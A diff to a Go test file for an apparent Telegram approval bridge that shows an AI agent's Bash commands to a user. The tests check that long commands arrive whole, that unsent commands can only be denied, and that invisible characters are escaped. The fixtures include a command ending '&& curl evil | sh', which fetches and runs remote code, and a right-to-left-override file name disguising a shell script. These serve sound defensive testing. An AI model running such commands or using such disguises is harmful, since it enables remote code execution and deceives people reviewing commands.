@@ -4,6 +4,7 @@ import (
 	"fmt"
 	"strings"
 	"testing"
+	"testing/synctest"
 
 	"github.com/untether/untether/runner"
 	"github.com/untether/untether/runner/runnertest"
@@ -37,112 +38,118 @@ func (h *harness) documents(chatID int64) []tgtest.Message {
 }
 
 func TestApprovalLongCommandArrivesWhole(t *testing.T) {
-	cmd := longCommand()
-	h := newHarness(t, oneAsk(toolReq(t, "l1", "Bash", map[string]any{"command": cmd, "description": "Run the steps"})))
-	h.say("go")
-	prompt := h.awaitPrompt(h.dm.ID, "Approve", "The command is 4,466 characters, too long to show here")
-	t.Logf("prompt:\n%s", prompt.Text)
-	if strings.Contains(prompt.Text, "curl evil") {
-		t.Fatal("the test assumes the prompt cannot show the end of the command")
-	}
-	docs := h.documents(h.dm.ID)
-	if len(docs) != 1 {
-		t.Fatalf("want one file with the whole command, got %d", len(docs))
-	}
-	doc := docs[0]
-	data, _ := h.tg.FileData(doc.Document.FileID)
-	if string(data) != cmd+"\n" || !strings.HasSuffix(strings.TrimSpace(string(data)), "&& curl evil | sh") {
-		t.Errorf("the file holds %d bytes ending %q, want the whole command", len(data), data[max(len(data)-40, 0):])
-	}
-	if doc.Document.FileName != "command.txt" || !strings.Contains(doc.Text, "4,466 characters") {
-		t.Errorf("file %q, caption %q", doc.Document.FileName, doc.Text)
-	}
-	// Telegram numbers a chat's messages in the order it took them: the
-	// file was there before any button, and the prompt points to it.
-	if doc.ID >= prompt.ID || prompt.ReplyTo != doc.ID || len(doc.Keyboard) != 0 {
-		t.Errorf("file %d (reply to %d), prompt %d replies to %d: the file must come first", doc.ID, doc.ReplyTo, prompt.ID, prompt.ReplyTo)
-	}
-	h.press(h.user, h.dm, prompt, "Approve")
-	h.awaitText(h.dm.ID, "tool allowed")
-	if a := h.onlyAnswer(0); !a.Decision.Allow || a.RequestID != "l1" {
-		t.Errorf("answer = %+v", a)
-	}
-	edited := h.awaitResolved(h.dm.ID, prompt.ID, "Approved")
-	if !strings.Contains(edited.Text, "command.txt") {
-		t.Errorf("the answered prompt lost the pointer to the file:\n%s", edited.Text)
-	}
+	synctest.Test(t, func(t *testing.T) {
+		cmd := longCommand()
+		h := newHarness(t, oneAsk(toolReq(t, "l1", "Bash", map[string]any{"command": cmd, "description": "Run the steps"})))
+		h.say("go")
+		prompt := h.awaitPrompt(h.dm.ID, "Approve", "The command is 4,466 characters, too long to show here")
+		t.Logf("prompt:\n%s", prompt.Text)
+		if strings.Contains(prompt.Text, "curl evil") {
+			t.Fatal("the test assumes the prompt cannot show the end of the command")
+		}
+		docs := h.documents(h.dm.ID)
+		if len(docs) != 1 {
+			t.Fatalf("want one file with the whole command, got %d", len(docs))
+		}
+		doc := docs[0]
+		data, _ := h.tg.FileData(doc.Document.FileID)
+		if string(data) != cmd+"\n" || !strings.HasSuffix(strings.TrimSpace(string(data)), "&& curl evil | sh") {
+			t.Errorf("the file holds %d bytes ending %q, want the whole command", len(data), data[max(len(data)-40, 0):])
+		}
+		if doc.Document.FileName != "command.txt" || !strings.Contains(doc.Text, "4,466 characters") {
+			t.Errorf("file %q, caption %q", doc.Document.FileName, doc.Text)
+		}
+		// Telegram numbers a chat's messages in the order it took them: the
+		// file was there before any button, and the prompt points to it.
+		if doc.ID >= prompt.ID || prompt.ReplyTo != doc.ID || len(doc.Keyboard) != 0 {
+			t.Errorf("file %d (reply to %d), prompt %d replies to %d: the file must come first", doc.ID, doc.ReplyTo, prompt.ID, prompt.ReplyTo)
+		}
+		h.press(h.user, h.dm, prompt, "Approve")
+		h.awaitText(h.dm.ID, "tool allowed")
+		if a := h.onlyAnswer(0); !a.Decision.Allow || a.RequestID != "l1" {
+			t.Errorf("answer = %+v", a)
+		}
+		edited := h.awaitResolved(h.dm.ID, prompt.ID, "Approved")
+		if !strings.Contains(edited.Text, "command.txt") {
+			t.Errorf("the answered prompt lost the pointer to the file:\n%s", edited.Text)
+		}
+	})
 }
 
 // TestApprovalFileNotDeliveredOffersOnlyDeny: without the whole input,
 // Approve would mean nothing; the prompt says so and Deny is all it offers.
 func TestApprovalFileNotDeliveredOffersOnlyDeny(t *testing.T) {
-	h := newHarnessPre(t, oneAsk(toolReq(t, "f1", "Bash", map[string]any{"command": longCommand()})), func(tg *tgtest.Server) {
-		tg.FailNext("sendDocument", 1, tgtest.Failure{Code: 400, Description: "Bad Request: file must be non-empty"})
+	synctest.Test(t, func(t *testing.T) {
+		h := newHarnessPre(t, oneAsk(toolReq(t, "f1", "Bash", map[string]any{"command": longCommand()})), func(tg *tgtest.Server) {
+			tg.FailNext("sendDocument", 1, tgtest.Failure{Code: 400, Description: "Bad Request: file must be non-empty"})
+		})
+		h.say("go")
+		prompt := h.awaitPrompt(h.dm.ID, "Deny", "could not be sent")
+		t.Logf("prompt:\n%s", prompt.Text)
+		if got := buttonTexts(prompt); len(got) != 1 || len(got[0]) != 1 {
+			t.Fatalf("buttons %v, want Deny alone", got)
+		}
+		if !strings.Contains(prompt.Text, "cannot be approved from here") {
+			t.Errorf("prompt:\n%s", prompt.Text)
+		}
+		h.press(h.user, h.dm, prompt, "Deny")
+		h.awaitText(h.dm.ID, "tool denied")
+		if a := h.onlyAnswer(0); a.Decision.Allow {
+			t.Errorf("answer = %+v", a)
+		}
 	})
-	h.say("go")
-	prompt := h.awaitPrompt(h.dm.ID, "Deny", "could not be sent")
-	t.Logf("prompt:\n%s", prompt.Text)
-	if got := buttonTexts(prompt); len(got) != 1 || len(got[0]) != 1 {
-		t.Fatalf("buttons %v, want Deny alone", got)
-	}
-	if !strings.Contains(prompt.Text, "cannot be approved from here") {
-		t.Errorf("prompt:\n%s", prompt.Text)
-	}
-	h.press(h.user, h.dm, prompt, "Deny")
-	h.awaitText(h.dm.ID, "tool denied")
-	if a := h.onlyAnswer(0); a.Decision.Allow {
-		t.Errorf("answer = %+v", a)
-	}
 }
 
 // TestApprovalInvisibleCharactersShown: a right-to-left override in a
 // command or a path is written out as <U+202E> in the progress line, the
 // prompt and the file, and the raw character is in nothing sent.
 func TestApprovalInvisibleCharactersShown(t *testing.T) {
-	const rlo = "\u202e"
-	cmd := "cp report.txt /tmp/" + rlo + "txt.sh && chmod +x /tmp/" + rlo + "txt.sh"
-	long := longCommand() + " # " + rlo + "end"
-	h := newHarness(t, func(tr *runnertest.Turn) {
-		tr.Start("m")
-		tr.Emit(runner.ActionStarted{ToolUseID: "toolu_b1", Tool: "Bash", Kind: "command", Title: cmd})
-		d1 := tr.Ask(toolReq(t, "b1", "Bash", map[string]any{"command": cmd, "description": "Copy " + rlo + "it"}))
-		d2 := tr.Ask(toolReq(t, "b2", "Bash", map[string]any{"command": long}))
-		tr.Complete(decisionWord(d1) + " " + decisionWord(d2))
-	})
-	h.say("go")
-	prompt := h.awaitPrompt(h.dm.ID, "Approve", "<U+202E>txt.sh")
-	t.Logf("prompt:\n%s", prompt.Text)
-	h.tg.Await(wait, "the progress line to show <U+202E>", func() bool {
-		for _, m := range h.tg.Messages(h.dm.ID) {
-			if strings.Contains(m.Text, "/tmp/<U+202E>txt.sh") && len(m.Keyboard) == 1 && strings.Contains(m.Keyboard[0][0].Text, "Cancel") {
-				return true
+	synctest.Test(t, func(t *testing.T) {
+		const rlo = "\u202e"
+		cmd := "cp report.txt /tmp/" + rlo + "txt.sh && chmod +x /tmp/" + rlo + "txt.sh"
+		long := longCommand() + " # " + rlo + "end"
+		h := newHarness(t, func(tr *runnertest.Turn) {
+			tr.Start("m")
+			tr.Emit(runner.ActionStarted{ToolUseID: "toolu_b1", Tool: "Bash", Kind: "command", Title: cmd})
+			d1 := tr.Ask(toolReq(t, "b1", "Bash", map[string]any{"command": cmd, "description": "Copy " + rlo + "it"}))
+			d2 := tr.Ask(toolReq(t, "b2", "Bash", map[string]any{"command": long}))
+			tr.Complete(decisionWord(d1) + " " + decisionWord(d2))
+		})
+		h.say("go")
+		prompt := h.awaitPrompt(h.dm.ID, "Approve", "<U+202E>txt.sh")
+		t.Logf("prompt:\n%s", prompt.Text)
+		h.tg.Await(wait, "the progress line to show <U+202E>", func() bool {
+			for _, m := range h.tg.Messages(h.dm.ID) {
+				if strings.Contains(m.Text, "/tmp/<U+202E>txt.sh") && len(m.Keyboard) == 1 && strings.Contains(m.Keyboard[0][0].Text, "Cancel") {
+					return true
+				}
 			}
-		}
-		return false
-	})
-	h.press(h.user, h.dm, prompt, "Deny")
-	second := h.awaitPrompt(h.dm.ID, "Approve", "4,")
-	h.press(h.user, h.dm, second, "Deny")
-	h.awaitText(h.dm.ID, "denied denied")
+			return false
+		})
+		h.press(h.user, h.dm, prompt, "Deny")
+		second := h.awaitPrompt(h.dm.ID, "Approve", "4,")
+		h.press(h.user, h.dm, second, "Deny")
+		h.awaitText(h.dm.ID, "denied denied")
 
-	docs := h.documents(h.dm.ID)
-	if len(docs) != 1 {
-		t.Fatalf("want the file of the long command, got %d files", len(docs))
-	}
-	data, _ := h.tg.FileData(docs[0].Document.FileID)
-	if !strings.HasSuffix(string(data), "# <U+202E>end\n") || !strings.Contains(docs[0].Text, "Invisible characters are written as") {
-		t.Errorf("file ends %q, caption %q", data[max(len(data)-30, 0):], docs[0].Text)
-	}
-	for _, c := range h.tg.Calls() {
-		for _, k := range []string{"text", "caption"} {
-			if strings.Contains(c.Param(k), rlo) {
-				t.Errorf("%s sent a raw U+202E in %s: %q", c.Method, k, c.Param(k))
+		docs := h.documents(h.dm.ID)
+		if len(docs) != 1 {
+			t.Fatalf("want the file of the long command, got %d files", len(docs))
+		}
+		data, _ := h.tg.FileData(docs[0].Document.FileID)
+		if !strings.HasSuffix(string(data), "# <U+202E>end\n") || !strings.Contains(docs[0].Text, "Invisible characters are written as") {
+			t.Errorf("file ends %q, caption %q", data[max(len(data)-30, 0):], docs[0].Text)
+		}
+		for _, c := range h.tg.Calls() {
+			for _, k := range []string{"text", "caption"} {
+				if strings.Contains(c.Param(k), rlo) {
+					t.Errorf("%s sent a raw U+202E in %s: %q", c.Method, k, c.Param(k))
+				}
+			}
+			for _, f := range c.Files {
+				if strings.Contains(string(f.Data), rlo) {
+					t.Errorf("%s uploaded a raw U+202E in %s", c.Method, f.Name)
+				}
 			}
 		}
-		for _, f := range c.Files {
-			if strings.Contains(string(f.Data), rlo) {
-				t.Errorf("%s uploaded a raw U+202E in %s", c.Method, f.Name)
-			}
-		}
-	}
+	})
 }
